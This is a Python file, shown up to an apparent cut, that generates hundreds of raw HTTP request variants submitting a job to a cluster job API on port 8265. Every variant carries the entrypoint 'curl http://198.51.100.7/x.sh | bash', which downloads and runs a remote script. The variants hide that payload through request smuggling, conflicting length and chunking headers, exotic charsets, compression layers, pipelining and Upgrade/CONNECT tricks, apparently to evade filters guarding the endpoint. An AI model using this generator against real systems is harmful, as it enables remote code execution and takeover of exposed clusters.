"""The variants: all() gives name -> the pieces that the client sends. Each is a submission of JOB, written in another way."""
import encodings
import gzip
import pkgutil
import zlib

import brotli
import zstandard

JOB = b'{"entrypoint": "curl http://198.51.100.7/x.sh | bash"}'
J = JOB
L = len(J)
CMD = b"curl http://198.51.100.7/x.sh | bash"


def req(body=JOB, path=b"/api/jobs/", method=b"POST", extra=b"", ct=b"Content-Type: application/json\r\n", ver=b"HTTP/1.1", host=b"Host: 10.0.0.5:8265\r\n", cl=None):
    length = b"Content-Length: %d\r\n" % len(body) if cl is None else cl
    return method + b" " + path + b" " + ver + b"\r\n" + host + ct + extra + length + b"\r\n" + body


V = {}


def v(name, *parts):
    assert name not in V, name
    V[name] = parts


v('base',req())
for n,p in {'abs':b'http://10.0.0.5:8265/api/jobs/','abs_https':b'https://h/api/jobs/','abs_userinfo':b'http://u:p@h:1/api/jobs/','abs_ws':b'ws://h/api/jobs/','abs_x':b'x://h/api/jobs/','pct':b'/%61pi/jobs/','pct2':b'/api%2Fjobs/','pctend':b'/api/jobs%2f','dbl':b'/api/%2561jobs/','slashes':b'//api/jobs/','slashes2':b'///api/jobs/','slashes3':b'/api//jobs/','noslash':b'/api/jobs','q':b'/api/jobs/?a=b','frag':b'/api/jobs/#x','frag2':b'/api/jobs/#x?y','qfrag':b'/api/jobs/?#','semi':b'/api/jobs/;x','dots':b'/x/../api/jobs/','dots2':b'/./api/jobs/','pctdots':b'/x/%2e%2e/api/jobs/','bsl':b'/api\\jobs/','utf8':b'/api/jobs/?\xff','up':b'/API/JOBS/','absq':b'http://h?/api/jobs/','abs_nopath':b'http://h','long':b'/api/jobs/?'+b'a'*8000,'longabs':b'http://'+b'a'*8100+b'/api/jobs/','tab':b'/api/jobs/\t','abs_hash':b'http://h#@h/api/jobs/','abs_up':b'HTTP://h/api/jobs/','abs_dbl':b'http://h//api/jobs/','netpath':b'//h/api/jobs/','abs_br':b'http://[::1]/api/jobs/','abs_badport':b'http://h:99999/api/jobs/','pctnul':b'/api/jobs/%00','abs_in_q':b'/api/jobs/?http://x/y','pcte':b'/api/%6aobs/','pctall':b'/%61%70%69/%6a%6f%62%73/','pctslash_m':b'/%2561pi/jobs/','pct_bad':b'/api/jobs/?%zz','pct_cr':b'/api/jobs/?%0d%0a','abs_emptyhost':b'http:///api/jobs/','star':b'*'}.items(): v('t_'+n,req(path=p))
for n,m in {'lower':b'post','put':b'PUT','patch':b'PATCH','override':b'GET'}.items(): v('m_'+n,req(method=m,extra=b'X-HTTP-Method-Override: POST\r\n'))
for ver in (b'HTTP/1.0',b'HTTP/0.9',b'HTTP/2.0',b'HTTP/1.2',b'HTTP/1.10',b'http/1.1',b'HTTP/1.1 ',b'ICE/1.0',b'RTSP/1.0',b'HTTP/01.1',b''): v('v_'+ver.decode().replace('/','_').replace(' ','SP'),req(ver=ver))
r=req()
v('lf',r.replace(b'\r\n',b'\n')); v('lf_one',r.replace(b'\r\n',b'\n',1)); v('cr',r.replace(b'\r\n',b'\r'))
v('lf_end',r.replace(b'\r\n\r\n',b'\r\n\n'));v('lf_end2',r.replace(b'\r\n\r\n',b'\n\r\n'))
v('lead_crlf',b'\r\n'*5+r); v('lead_lf',b'\n\n'+r); v('lead_sp',b'  '+r); v('lead_crlf_many',b'\r\n'*3000+r); v('lead_cr',b'\r\r'+r); v('lead_nul',b'\0'+r)
v('sp2',r.replace(b'POST ',b'POST  ')); v('sptab',r.replace(b'POST ',b'POST\t')); v('sp2b',r.replace(b' HTTP/1.1',b'  HTTP/1.1'))
v('nohost',req(host=b'')); v('noct',req(ct=b'')); v('ct_plain',req(ct=b'Content-Type: text/plain\r\n')); v('ct_form',req(ct=b'Content-Type: multipart/form-data; boundary=x\r\n'))
v('fold_ct',req(ct=b'Content-Type: application/json;\r\n charset=utf-16\r\n',body=J.decode().encode('utf-16')))
v('fold_h',req(extra=b'X-A: a\r\n b\r\n'))
def ch(b,size=None,fmt=b'%x',ext=b'',end=b'0\r\n\r\n',nl=b'\r\n'):
    o=b''; size=size or len(b)
    for i in range(0,len(b),size):
        c=b[i:i+size]; o+=fmt%len(c)+ext+nl+c+nl
    return o+end
def te(val,body,extra=b'',name=b'Transfer-Encoding'): return req(body=body,cl=name+b': '+val+b'\r\n',extra=extra)
v('te',te(b'chunked',ch(J))); v('te1',te(b'chunked',ch(J,1)))
for n,x in {'up':b'CHUNKED','gz':b'gzip, chunked','idch':b'identity, chunked','twice':b'chunked, chunked','chid':b'chunked, identity','tab':b'\tchunked','vt':b'\x0bchunked','q':b'"chunked"','param':b'chunked;q=1','x':b'xchunked','id':b'identity','comma':b'chunked,','lead':b',chunked','sp':b'chunked \t ','empty':b''}.items(): v('te_'+n,te(x,ch(J)))
v('te_fold',te(b'\r\n chunked',ch(J))); v('te_two',te(b'gzip',ch(J),extra=b'Transfer-Encoding: chunked\r\n')); v('te_under',te(b'chunked',ch(J),name=b'Transfer_Encoding')); v('te_spcolon',te(b'chunked',ch(J),name=b'Transfer-Encoding '))
v('te_cl',te(b'chunked',ch(J),extra=b'Content-Length: 5\r\n')); v('te_cl0',te(b'chunked',ch(J),extra=b'Content-Length: 0\r\n')); v('te_10',te(b'chunked',ch(J)).replace(b'HTTP/1.1',b'HTTP/1.0'))
for n,f in {'lead0':b'0000000000%x','plus':b'+%x','minus':b'-%x','0x':b'0x%x','under':b'0_%x','sp':b'%x ','lsp':b' %x','tab':b'%x\t','upper':b'%X','long0':b'0'*40+b'%x','vt':b'%x\x0b','nul':b'%x\0'}.items(): v('c_'+n,te(b'chunked',ch(J,fmt=f)))
for n,e in {'ext':b';a=b','extq':b';a="b\\"c"','extlf':b';a\nb','extcr':b';a\rb','extlong':b';a='+b'b'*7000,'extsp':b' ; a = b','ext0':b';','extqcrlf':b';a="\r\n0\r\n\r\n"'}.items(): v('c_'+n,te(b'chunked',ch(J,ext=e)))
v('c_lf',te(b'chunked',ch(J,nl=b'\n'))); v('c_lfend',te(b'chunked',ch(J,end=b'0\n\n'))); v('c_trail',te(b'chunked',ch(J,end=b'0\r\nA: b\r\n\r\n'))); v('c_00',te(b'chunked',ch(J,end=b'000\r\n\r\n')))
v('c_noend',te(b'chunked',ch(J,end=b''))); v('c_big_over',te(b'chunked',ch(J,fmt=b'10000000000000000%x')))
L=len(J)
for n,x in {'lead0':b'000%d'%L,'plus':b'+%d'%L,'sp':b' %d '%L,'under':b'0_%d'%L,'list':b'%d, %d'%(L,L),'hex':b'0x%x'%L,'dot':b'%d.0'%L,'big':b'99999999999999999999','tab':b'\t%d\t'%L,'vt':b'\x0b%d'%L,'e':b'%de0'%L,'inner':b'%s %s'%(str(L)[0].encode(),str(L)[1].encode())}.items(): v('cl_'+n,req(cl=b'Content-Length: '+x+b'\r\n'))
v('cl_two',req(cl=b'Content-Length: %d\r\nContent-Length: %d\r\n'%(L,L))); v('cl_two0',req(cl=b'Content-Length: 0\r\nContent-Length: %d\r\n'%L)); v('cl_none',req(cl=b'')); v('cl_case',req(cl=b'CONTENT-LENGTH: %d\r\n'%L)); v('cl_nosp',req(cl=b'Content-Length:%d\r\n'%L)); v('cl_spc',req(cl=b'Content-Length : %d\r\n'%L)); v('cl_long',req(cl=b'Content-Length: %d\r\n'%L,body=J+b'GARBAGE'))
v('cl_more',req(cl=b'Content-Length: %d\r\n'%(L+10)))
v('hdr_nul',req(extra=b'X: a\0b\r\n')); v('hdr_many',req(extra=b''.join(b'X%d: a\r\n'%i for i in range(90)))); v('hdr_many150',req(extra=b''.join(b'X%d: a\r\n'%i for i in range(150)))); v('hdr_300',req(extra=b''.join(b'X%d: a\r\n'%i for i in range(300)))); v('hdr_6000',req(extra=b''.join(b'X%d: a\r\n'%i for i in range(6000)))); v('hdr_big',req(extra=b'X: '+b'a'*8000+b'\r\n')); v('hdr_big_20k',req(extra=b'X: '+b'a'*20000+b'\r\n')); v('hdr_60x8k',req(extra=b''.join(b'X%d: '%i+b'a'*8000+b'\r\n' for i in range(60)))); v('hdr_30x8k',req(extra=b''.join(b'X%d: '%i+b'a'*8000+b'\r\n' for i in range(30)))); v('hdr_bad',req(extra=b'foo\r\n')); v('hdr_obs',req(extra=b'X: \xff\x80\r\n')); v('hdr_emptyname',req(extra=b': x\r\n'))
for n,b in {'dup':b'{"entrypoint":"ls","entrypoint": "curl http://198.51.100.7/x.sh | bash"}','dup_esc':b'{"entrypoint":"ls","\\u0065ntrypoint": "curl http://198.51.100.7/x.sh | bash"}','nan':b'{"metadata":NaN,"entrypoint": "curl http://198.51.100.7/x.sh | bash"}','inf':b'{"metadata":-Infinity,"entrypoint": "curl http://198.51.100.7/x.sh | bash"}','surr':b'{"metadata":"\\ud800","entrypoint": "\\ud800;curl http://198.51.100.7/x.sh | bash"}','bom':b'\xef\xbb\xbf'+J,'comment':b'/*x*/'+J,'ws':b' \t\r\n'*500+J,'deep':b'{"metadata":'+b'['*900+b']'*900+b',"entrypoint": "curl http://198.51.100.7/x.sh | bash"}','ctl':b'{"entrypoint": "curl http://198.51.100.7/x.sh |\n bash"}','trail':J+b'  \n','trail2':J+b'x','single':J.replace(b'"',b"'"),'tcomma':J.replace(b'}',b',}'),'vt':b'\x0b'+J,'ff':b'\x0c'+J,'nbsp':b'\xc2\xa0'+J,'bignum':b'{"metadata":'+b'1'*4000+b',"entrypoint": "curl http://198.51.100.7/x.sh | bash"}','foreign':b'{"zzz":1,"entrypoint": "curl http://198.51.100.7/x.sh | bash"}','keyslash':b'{"entry\\/point":1,"entrypoint": "curl http:\\/\\/198.51.100.7\\/x.sh | bash"}','allesc':b'{"'+b''.join(b'\\u%04x'%c for c in b'entrypoint')+b'":"'+b''.join(b'\\u%04x'%c for c in b'curl http://198.51.100.7/x.sh | bash')+b'"}'}.items(): v('j_'+n,req(body=b))
for n,cs in {'u16':'utf-16','u32':'utf-32','u16be':'utf-16-be','u7':'utf-7','037':'cp037','1140':'cp1140','500':'cp500','273':'cp273','1026':'cp1026','875':'cp875','424':'cp424','hz':'hz','jpext':'iso2022_jp_ext','jp2004':'iso2022_jp_2004','kr':'iso2022_kr','puny':'punycode','idna':'idna','rot':'rot13','b64':'base64','ue':'unicode_escape','sig':'utf-8-sig','johab':'johab','1125':'cp1125','864':'cp864','undef':'nonesuch'}.items():
    try: b=J.decode().encode(cs)
    except Exception: b=J
    if n in('jpext','jp2004'): b=J.replace(b'entrypoint',b'entry\x1b(Bpoint').replace(b'curl',b'cu\x1b(Brl')
    if n=='kr': b=J.replace(b'entrypoint',b'entry\x0e\x0fpoint').replace(b'curl',b'cu\x0e\x0frl')
    if n=='hz': b=J.replace(b'entrypoint',b'entry~{~}point').replace(b'curl',b'cu~{~}rl')
    v('cs_'+n,req(body=b,ct=b'Content-Type: application/json; charset=%s\r\n'%cs.encode()))
v('cs_fold',req(body=J.decode().encode('cp037'),ct=b'Content-Type: application/json; charset*=us-ascii\'en\'cp037\r\n'))
v('cs_long',req(body=J.decode().encode('cp037'),ct=b'Content-Type: application/json; x='+b'a'*300+b'; charset=cp037\r\n'))
v('cs_two',req(body=J.decode().encode('cp037'),ct=b'Content-Type: application/json; charset=utf-8; charset=cp037\r\n'))
v('ct_two',req(body=J.decode().encode('cp037'),ct=b'Content-Type: application/json\r\nContent-Type: application/json; charset=cp037\r\n'))
v('ct_two2',req(body=J.decode().encode('cp037'),ct=b'Content-Type: application/json; charset=cp037\r\nContent-Type: application/json\r\n'))
def df(b): 
    c=zlib.compressobj(9,zlib.DEFLATED,-15); return c.compress(b)+c.flush()
for n,(e,b) in {'gzip':(b'gzip',gzip.compress(J)),'deflate':(b'deflate',zlib.compress(J)),'raw':(b'deflate',df(J)),'br':(b'br',brotli.compress(J)),'zstd':(b'zstd',zstandard.compress(J)),'zstd2':(b'zstd',zstandard.compress(J[:20])+zstandard.compress(J[20:])),'gz2':(b'gzip',gzip.compress(J[:20])+gzip.compress(J[20:])),'gzUP':(b'GZIP',gzip.compress(J)),'gzsp':(b' gzip ',gzip.compress(J)),'x':(b'x-gzip',gzip.compress(J)),'two':(b'gzip, gzip',gzip.compress(gzip.compress(J))),'ident':(b'identity',J),'garb':(b'foo',J),'lie':(b'gzip, foo',J),'empty':(b'',J),'gz_nocrc':(b'gzip',gzip.compress(J)[:-8]),'gz_trunc':(b'gzip',gzip.compress(J)[:-4]),'gz_badcrc':(b'gzip',gzip.compress(J)[:-8]+b'\0'*8),'gz_trail':(b'gzip',gzip.compress(J)+b'XXXX'),'gz_as_deflate':(b'deflate',gzip.compress(J)),'zlib_as_gzip':(b'gzip',zlib.compress(J)),'snappy':(b'snappy',J)}.items(): v('e_'+n,req(body=b,extra=b'Content-Encoding: '+e+b'\r\n'))
v('e_twohdr',req(body=gzip.compress(J),extra=b'Content-Encoding: identity\r\nContent-Encoding: gzip\r\n')); v('e_twohdr2',req(body=gzip.compress(J),extra=b'Content-Encoding: gzip\r\nContent-Encoding: identity\r\n')); v('e_twohdr3',req(body=J,extra=b'Content-Encoding: foo\r\nContent-Encoding: gzip\r\n'))
zs=zstandard.ZstdCompressor(write_checksum=True); 
v('e_zstd_skip',req(body=b'\x50\x2a\x4d\x18\x04\0\0\0abcd'+zstandard.compress(J),extra=b'Content-Encoding: zstd\r\n'))
v('e_zstd_win',req(body=zstandard.ZstdCompressor(compression_params=zstandard.ZstdCompressionParameters(window_log=27)).compressobj().compress(b'')+ (lambda o:o.compress(J)+o.flush())(zstandard.ZstdCompressor(compression_params=zstandard.ZstdCompressionParameters(window_log=27)).compressobj()),extra=b'Content-Encoding: zstd\r\n'))
pad=b'{"metadata":{"a":"'+b'A'*(4<<20)+b'"},"entrypoint": "curl http://198.51.100.7/x.sh | bash"}'
v('b_pad4M',req(body=pad)); v('b_padgz',req(body=gzip.compress(pad),extra=b'Content-Encoding: gzip\r\n')); v('b_padzstd',req(body=zstandard.compress(pad),extra=b'Content-Encoding: zstd\r\n'));v('b_padbr',req(body=brotli.compress(pad),extra=b'Content-Encoding: br\r\n'))
g=b'GET /api/version HTTP/1.1\r\nHost: x\r\n\r\n'
v('p_10',g*10+r); v('p_99',g*99+r); v('p_101',g*101+r); v('p_150',g*150+r); v('p_400',g*400+r)
v('x_expect',req(extra=b'Expect: 100-continue\r\n')); v('x_upg',req(extra=b'Connection: Upgrade\r\nUpgrade: websocket\r\n')); v('x_upgh2',req(extra=b'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n')); v('x_connclose',req(extra=b'Connection: close\r\n'))
v('x_upg_then',g.replace(b'\r\n\r\n',b'\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n')+r); v('x_upg_then2',g.replace(b'\r\n\r\n',b'\r\nConnection: Upgrade\r\nUpgrade: foo\r\n\r\n')+r); v('x_conn_then',b'CONNECT a:1 HTTP/1.1\r\nHost: a\r\n\r\n'+r); v('x_head_then',g.replace(b'GET',b'HEAD')+r)
v('x_get_body',g.replace(b'\r\n\r\n',b'\r\nContent-Length: 5\r\n\r\nhello')+r); v('x_09_then',b'GET /api/version\r\n'+r); v('x_opt',b'OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n'+r);v('x_pri',b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'+r); v('x_clsmug',b'GET /api/version HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nTransfer-Encoding: \r\n\r\n'+r); v('x_304',g.replace(b'/api/version',b'/')+r)
v('split1',*[bytes([c]) for c in r[:400]]); v('split_hb',r[:-L],J); v('x_proxyv1',b'PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\n'+r)
v('junk_first',b'XXXX\r\n'+r); v('m_query',req(method=b'QUERY')); v('x_404_then',b'GET /nope HTTP/1.1\r\nHost: x\r\n\r\n'+r)

# --- versions and first lines
for ver in (b'HTTP/3.0', b'HTTP/1.9', b'HTTP/0.8', b'HTTP/1', b'RTSP/1.1', b'RTSP/2.0', b'RTSP/0.9', b'RTSP/3.0', b'HTTP/2.1', b'HTTP/1.1\t', b'HTTP/ 1.1', b'HTTP/+1.1', b'HTTPS/1.1', b'ICE/1.1', b'HTTP/1.1;x', b'HTTP/11'):
    v('v2_' + ver.decode().replace('/', '_').replace('\t', 'TAB').replace(' ', 'SP'), req(ver=ver))
for n in (2000, 20000, 100000, 300000):
    v('sp_before_path_%d' % n, req().replace(b'POST ', b'POST' + b' ' * n))
    v('sp_before_version_%d' % n, req().replace(b' HTTP/1.1', b' ' * n + b'HTTP/1.1'))
    v('crlf_first_%d' % n, b'\r\n' * (n // 2) + req())
    v('lf_first_%d' % n, b'\n' * n + req())
    v('cr_first_%d' % n, b'\r' * n + req())
    v('crlf_between_%d' % n, g + b'\r\n' * (n // 2) + req())
v('v2_http2_pipelined', g.replace(b'HTTP/1.1', b'HTTP/2.0') * 3 + req(ver=b'HTTP/2.0'))
v('v2_rtsp_get_then', g.replace(b'HTTP/1.1', b'RTSP/1.0') + req())
v('v2_http2_then_1', g.replace(b'HTTP/1.1', b'HTTP/2.0') + req())
v('v2_http2_chunked', te(b'chunked', ch(J, 7)).replace(b'HTTP/1.1', b'HTTP/2.0'))
v('v2_rtsp_chunked', te(b'chunked', ch(J, 7)).replace(b'HTTP/1.1', b'RTSP/1.0'))
v('v2_09_chunked', te(b'chunked', ch(J, 7)).replace(b'HTTP/1.1', b'HTTP/0.9'))
v('v2_pri_path', b'PRI /x HTTP/1.1\r\nHost: x\r\n\r\n' + req())
for m in (b'PURGE', b'M-SEARCH', b'PATCH', b'LINK', b'ACL', b'PROPFIND', b'SOURCE', b'QUERY', b'FROB', b'TRACE', b'DESCRIBE', b'OPTIONS', b'PUT', b'DELETE'):
    v('first_' + m.decode(), m + b' /x HTTP/1.1\r\nHost: x\r\n\r\n' + req())
    v('first_long_' + m.decode(), m + b' /' + b'a' * 8000 + b' HTTP/1.1\r\nHost: x\r\n\r\n' + req())
v('url_ctl', req(path=b'/api/jobs/?\x01'))
v('url_del', req(path=b'/api/jobs/?\x7f'))
v('url_quote', req(path=b'/api/jobs/?"<>\\^`{|}'))
v('url_8100', req(path=b'/api/jobs/?' + b'%41' * 2690))
v('url_abs_ftp', req(path=b'ftp://x/api/jobs/?y'))
v('url_abs_file', req(path=b'file://x/api/jobs/'))
v('url_abs_port', req(path=b'http://x:1/api/jobs/?a#b'))
v('url_abs_pct', req(path=b'http://x/%61pi/jobs/'))
v('url_abs_at', req(path=b'http://a:b@c:1/api/jobs/'))
v('url_abs_frag', req(path=b'http://x/api/jobs/#/y?z'))
v('url_pct_mixed', req(path=b'/ap%69/job%73/?x=%2f'))
v('url_pct_2f', req(path=b'/api%2fjobs/'))
v('url_pct_lower', req(path=b'/%61%70%69/jobs/'))
v('url_semicolon', req(path=b'/api/jobs/?;jsessionid=1'))
v('url_plus', req(path=b'/api/jobs/?+'))
v('url_dotseg', req(path=b'/api/./jobs/'))
v('url_pct_dot', req(path=b'/api/%2e/jobs/'))
v('url_utf8', req(path='/api/jobs/?é'.encode()))

# --- fields
for n in (9000, 20000, 70000, 200000):
    v('cl_sp_%d' % n, req(cl=b'Content-Length:' + b' ' * n + b'%d\r\n' % L))
    v('cl_trail_%d' % n, req(cl=b'Content-Length: %d' % L + b' ' * n + b'\r\n'))
    v('cl_tab_%d' % n, req(cl=b'Content-Length:' + b'\t' * n + b'%d\r\n' % L))
    v('cl_zeros_%d' % n, req(cl=b'Content-Length: ' + b'0' * n + b'%d\r\n' % L))
    v('ct_sp_%d' % n, req(ct=b'Content-Type:' + b' ' * n + b'application/json; charset=utf-16\r\n', body=J.decode().encode('utf-16')))
for k in (16, 33, 60, 126):
    pad = b''.join(b'Y%d: ' % i + b'a' * 8000 + b'\r\n' for i in range(k))
    v('head_%dx8k_first' % k, req(ct=pad + b'Content-Type: application/json; charset=utf-16\r\n', body=J.decode().encode('utf-16')))
    v('head_%dx8k_last' % k, req(cl=b'Content-Length: %d\r\n' % L + pad))
    v('head_%dx8k_te' % k, te(b'chunked', ch(J, 9), extra=pad))
    v('head_%dx8k_then' % k, g.replace(b'\r\n\r\n', b'\r\n' + pad + b'\r\n') + req())
    v('head_%dx8k_ce' % k, req(ct=pad + b'Content-Encoding: gzip\r\n', body=gzip.compress(J)))
many = b''.join(b'X%d: a\r\n' % i for i in range(20000))
v('head_20000', req(ct=many + b'Content-Type: application/json; charset=cp037\r\n', body=J.decode().encode('cp037')))
v('head_20000_then', g.replace(b'\r\n\r\n', b'\r\n' + many + b'\r\n') + req())
v('head_240_ct_last', req(extra=b''.join(b'X%d: a\r\n' % i for i in range(240)) + b'Content-Type: application/json; charset=utf-16\r\n', ct=b'', body=J.decode().encode('utf-16')))
v('head_120_ct_last', req(extra=b''.join(b'X%d: a\r\n' % i for i in range(120)) + b'Content-Type: application/json; charset=utf-16\r\n', ct=b'', body=J.decode().encode('utf-16')))
v('h_conn_list', req(extra=b'Connection: keep-alive, foo, close\r\n'))
v('h_conn_junk', req(extra=b'Connection: ,,, close,\r\n'))
v('h_host_empty', req(host=b'Host:\r\n'))
v('h_host_two', req(host=b'Host: a\r\nHost: b\r\n'))
v('h_name_odd', req(extra=b"X!#$%&'*+-.^_`|~: a\r\n"))
v('h_name_long', req(extra=b'X' * 8100 + b': a\r\n'))
v('h_val_tab', req(extra=b'X: a\tb\r\n'))
v('h_val_empty', req(extra=b'X:\r\n'))
v('h_nl_colon', req(extra=b'X\r\n: a\r\n'))
v('h_cl_plus_te', te(b'chunked', ch(J), extra=b'Content-Length: %d\r\n' % L))
v('h_te_te', te(b'chunked', ch(J), extra=b'Transfer-Encoding: chunked\r\n'))
v('h_te_many', te(b'a, b, c, d, e, chunked', ch(J)))
v('h_te_sp', te(b'  chunked', ch(J)))
v('h_te_gz_body', te(b'gzip, chunked', ch(gzip.compress(J))))
v('h_te_gz_ce', te(b'gzip, chunked', ch(gzip.compress(J)), extra=b'Content-Encoding: gzip\r\n'))
v('h_te_long', te(b'x' * 8000 + b', chunked', ch(J)))
v('h_cl_hex', req(cl=b'Content-Length: 0x36\r\n'))
v('h_cl_same3', req(cl=b'Content-Length: %d\r\n' % L * 3))
v('h_cl_empty', req(cl=b'Content-Length:\r\n'))
v('h_trailing_sp_name', req(extra=b'X : a\r\n'))
v('h_fold_tab', req(extra=b'X-A: a\r\n\tb\r\n'))
v('h_fold_cl', req(cl=b'Content-Length:\r\n %d\r\n' % L))
v('h_fold_ct', req(ct=b'Content-Type: application/json\r\n ; charset=cp500\r\n', body=J.decode().encode('cp500')))
v('h_fold_many', req(extra=b'X-A: a\r\n' + b' b\r\n' * 300))
v('h_expect_body', req()[:-L].replace(b'\r\n\r\n', b'\r\nExpect: 100-continue\r\n\r\n'), J)
v('h_expect_caps', req()[:-L].replace(b'\r\n\r\n', b'\r\nEXPECT: 100-Continue\r\n\r\n'), J)
v('h_expect_10', req(extra=b'Expect: 100-continue\r\n', ver=b'HTTP/1.0'))

# --- chunks
for n in (100, 9000, 70000, 200000):
    v('c_zeros_%d' % n, te(b'chunked', ch(J, 20, fmt=b'0' * n + b'%x')))
    v('c_extlen_%d' % n, te(b'chunked', ch(J, 20, ext=b';a=' + b'b' * n)))
    v('c_extq_%d' % n, te(b'chunked', ch(J, 20, ext=b';a="' + b'b' * n + b'"')))
    v('c_lastzeros_%d' % n, te(b'chunked', ch(J, 20, end=b'0' * n + b'\r\n\r\n')) + req(body=b'{}', path=b'/x'))
    v('c_trailer_%d' % n, te(b'chunked', ch(J, 20, end=b'0\r\n' + b'A: ' + b'b' * min(n, 8000) + b'\r\n' + b''.join(b'B%d: x\r\n' % i for i in range(min(n // 100, 120))) + b'\r\n')))
v('c_trailer_long', te(b'chunked', ch(J, 20, end=b'0\r\n' + b''.join(b'B%d: %s\r\n' % (i, b'x' * 8000) for i in range(30)) + b'\r\n')))
v('c_trailer_then', g.replace(b'GET', b'PUT').replace(b'\r\n\r\n', b'\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n' + b''.join(b'B%d: %s\r\n' % (i, b'x' * 8000) for i in range(30)) + b'\r\n') + req())
v('c_ext_many', te(b'chunked', ch(J, 5, ext=b';a;b=c;d="e";f')))
v('c_ext_eq', te(b'chunked', ch(J, 5, ext=b';=')))
v('c_ext_utf8', te(b'chunked', ch(J, 5, ext=';a="é"'.encode())))
v('c_ext_sp', te(b'chunked', ch(J, 5, ext=b'; a')))
v('c_ext_ctl', te(b'chunked', ch(J, 5, ext=b';a="\x01"')))
v('c_ext_last', te(b'chunked', ch(J, 5, end=b'0;a=b\r\n\r\n')))
v('c_mixed_case', te(b'chunked', ch(J + b' ' * 100, 26, fmt=b'%X')))
v('c_trail_te', te(b'chunked', ch(J, 5, end=b'0\r\nTransfer-Encoding: chunked\r\n\r\n')))
v('c_trail_cl', te(b'chunked', ch(J, 5, end=b'0\r\nContent-Length: 99\r\n\r\n')))
v('c_then', te(b'chunked', ch(b'{}')).replace(b'/api/jobs/', b'/nope') + req())
v('c_byte_segments', *[bytes([x]) for x in te(b'chunked', ch(J, 3))])

# --- upgrade, CONNECT and what is behind them
for n, up in {'ws': b'websocket', 'h2c': b'h2c', 'tls': b'TLS/1.0', 'tcp': b'tcp', 'WS': b'WebSocket'}.items():
    u = b'Connection: Upgrade\r\nUpgrade: ' + up + b'\r\n'
    v('u_post_' + n, req(extra=u))
    v('u_chunked_' + n, te(b'chunked', ch(J, 8), extra=u))
    v('u_get_then_' + n, g.replace(b'\r\n\r\n', b'\r\n' + u + b'\r\n') + req())
    v('u_get_crlf_then_' + n, g.replace(b'\r\n\r\n', b'\r\n' + u + b'\r\n') + b'\r\n' * 10000 + req())
    v('u_get_wait_then_' + n, g.replace(b'\r\n\r\n', b'\r\n' + u + b'\r\n'), req())
    v('u_many_then_' + n, g.replace(b'\r\n\r\n', b'\r\n' + u + b'\r\n') + g * 600 + req())
    v('u_only_' + n, req(extra=b'Upgrade: ' + up + b'\r\n'))
con = b'CONNECT a:1 HTTP/1.1\r\nHost: a\r\n\r\n'
v('con_many', con + g * 600 + req())
v('con_wait', con, req())
v('con_crlf', con + b'\r\n' * 20000 + req())
v('con_cl', con.replace(b'\r\n\r\n', b'\r\nContent-Length: %d\r\n\r\n' % len(req())) + req())
v('con_twice', con + con + req())
v('con_path', b'CONNECT /api/jobs/ HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n' % L + J)

# --- many before it
nope = b'POST /nope HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello'
hd = g.replace(b'GET', b'HEAD')
for n in (150, 1000, 3000):
    v('many_get_%d' % n, g * n + req())
    v('many_head_%d' % n, hd * n + req())
    v('many_post_%d' % n, nope * n + req())
    v('many_mixed_%d' % n, (g + hd) * (n // 2) + req())
v('two_jobs', req(body=b'{"entrypoint": "ls"}') + req())
v('twenty_jobs', req(body=b'{"entrypoint": "ls"}') * 20 + req())
v('many_jobs', req(body=b'{"entrypoint": "ls"}') * 150 + req())
v('get_chunked_then', g.replace(b'\r\n\r\n', b'\r\nTransfer-Encoding: chunked\r\n\r\n') + ch(b'hello') + req())
v('head_body_then', hd.replace(b'\r\n\r\n', b'\r\nContent-Length: 5\r\n\r\nhello') + req())
v('bad_json_then', req(body=b'{"entrypoint": 7}') + req())
v('wait_between', g, g, req())

# --- codings
def gz(b, flags=0, extra=b''):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b'\x1f\x8b\x08' + bytes([flags]) + b'\0\0\0\0\x02\xff' + extra + c.compress(b) + c.flush() + zlib.crc32(b).to_bytes(4, 'little') + len(b).to_bytes(4, 'little')
def ce(name, body, kind=b'gzip', field=b'Content-Encoding: '):
    v(name, req(body=body, extra=field + kind + b'\r\n'))
ce('gz_name', gz(J, 8, b'a' * 1000 + b'\0')); ce('gz_name_100k', gz(J, 8, b'a' * 100000 + b'\0')); ce('gz_extra', gz(J, 4, b'\xff\xff' + b'x' * 65535)); ce('gz_comment', gz(J, 16, b'c' * 70000 + b'\0'))
h = b'\x1f\x8b\x08\x02\0\0\0\0\x02\xff'
ce('gz_hcrc', h + (zlib.crc32(h) & 0xffff).to_bytes(2, 'little') + gz(J)[10:])
ce('gz_text', gz(J, 1)); ce('gz_members', b''.join(gzip.compress(bytes([c])) for c in J)); ce('gz_empty_first', gzip.compress(b'') * 500 + gzip.compress(J)); ce('gz_empty_between', gzip.compress(J[:9]) + gzip.compress(b'') * 500 + gzip.compress(J[9:])); ce('gz_trail_nul', gzip.compress(J) + b'\0' * 100); ce('gz_trail_gz', gzip.compress(J) + gzip.compress(b'   ')); ce('gz_trail_half', gzip.compress(J) + gzip.compress(b'   ')[:7])
ce('gz_stored', gzip.compress(J, 0)); ce('gz_case', gzip.compress(J), b'GzIp'); ce('gz_tab', gzip.compress(J), b'\tgzip\t'); ce('gz_name_case', gzip.compress(J), field=b'CONTENT-ENCODING:')
co = zlib.compressobj(9, zlib.DEFLATED, -15); blocks = b''.join(co.compress(J[i:i + 1]) + co.flush(zlib.Z_FULL_FLUSH) for i in range(L)) + co.flush()
